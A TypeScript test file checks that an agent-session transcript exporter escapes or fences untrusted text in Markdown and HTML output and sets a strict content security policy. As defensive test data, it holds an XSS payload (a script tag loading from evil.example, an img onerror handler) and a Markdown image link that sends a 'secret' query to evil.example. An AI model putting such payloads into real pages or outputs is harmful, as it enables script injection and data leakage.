import { expect, test } from 'vitest'

import { messageOf, roundOf, said, sessionOf } from '#src/features/session/session-fixture.ts'
import type { Message } from '#src/model/message.ts'

import { htmlOf, markdownOf, reportOf } from './documents.ts'
import type { TranscriptFile } from './transcript-file.ts'

const hostile =
  '<script src="https://evil.example/a.js"></script><img src=x onerror=\'alert("1")\'>'

function fileOf(messages: readonly Message[], report: string | null = null): TranscriptFile {
  const session = sessionOf({
    state: 'complete',
    status: 'complete',
    report,
    rounds: [
      { ...roundOf('r1', 0, 10), number: 1, title: 'Collect' },
      { ...roundOf('r2', 2, 5), number: 1, parentId: 'r1', agent: 'Checker' },
    ],
  })
  const service = 'https://service.example'
  const readAt = Date.UTC(2026, 10, 24, 9, 0, 5)
  return { session, rounds: [said('r1', ...messages)], service, readAt, gap: null }
}

test('Markdown has the facts, the rounds, who spoke when, and the report', () => {
  const file = fileOf(
    [
      messageOf('Two *paragraphs*.\n\nThe second.', 61, { author: 'Planner_1' }),
      messageOf('', 62, {
        role: 'tool',
        tool: { name: 'sql', input: 'select ```1```', output: '1' },
      }),
    ],
    '# Done\n\nAll booked.',
  )
  const rounds = [...file.rounds, said('r2', messageOf('Checked', 70, { role: 'subagent' }))]
  expect(markdownOf({ ...file, rounds, gap: 'the session goes on' })).toBe(
    [
      '# Reconcile October',
      [
        String.raw`- Session: ses\_1`,
        '- Service: https://service.example',
        '- Status: Complete',
        '- Spent: $12.84 of $20.00',
        '- Messages: 3 messages, possibly incomplete: the session goes on',
        '- As read at: 2026-11-24 09:00:05 UTC',
      ].join('\n'),
      '## Round 1: Collect',
      String.raw`**agent Planner\_1** · 2026-10-31 14:01:01 UTC`,
      '> Two *paragraphs*.\n> \n> The second.',
      '**tool, tool sql** · 2026-10-31 14:01:02 UTC',
      '````\nselect ```1```\n````',
      '```\n1\n```',
      '## Round 1, subagent Checker',
      '**subagent** · 2026-10-31 14:01:10 UTC',
      '> Checked',
      '## Completion report',
      '# Done\n\nAll booked.\n',
    ].join('\n\n'),
  )
})

test('Markdown that a viewer might run, or fetch a picture for, stands in a fence', () => {
  const picture = '![a](https://evil.example/?q=secret)'
  const text = markdownOf(fileOf([messageOf(hostile, 1), messageOf(picture, 2)], hostile))
  expect(text).toContain(`> \`\`\`\n> ${hostile}\n> \`\`\``)
  expect(text).toContain(`> \`\`\`\n> ${picture}\n> \`\`\``)
  expect(reportOf(fileOf([], hostile))).toContain(`\n\`\`\`\n${hostile}\n\`\`\`\n`)
  expect(reportOf(fileOf([], 'a < b'))).toContain('\n\na < b\n')
})

test('a web page has every text escaped, and a policy that forbids scripts and requests', () => {
  const tool = { name: hostile, input: hostile, output: hostile }
  const said1 = messageOf(`${hostile} \u202Edeh`, 1, { author: hostile, tool })
  const file = fileOf([said1], hostile)
  const text = htmlOf({ ...file, session: { ...file.session, goal: hostile }, service: hostile })
  expect(text).not.toMatch(/<(?:script|img|link|iframe|object)/)
  expect(text).not.toMatch(/<[^<>]*\son\w+=/)
  expect(text).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`)
  expect(text).toContain('&lt;script src=&quot;https://evil.example/a.js&quot;&gt;')
  expect(text).toContain('‹U+202E›deh')
  expect(text).not.toContain('\u202E')
})
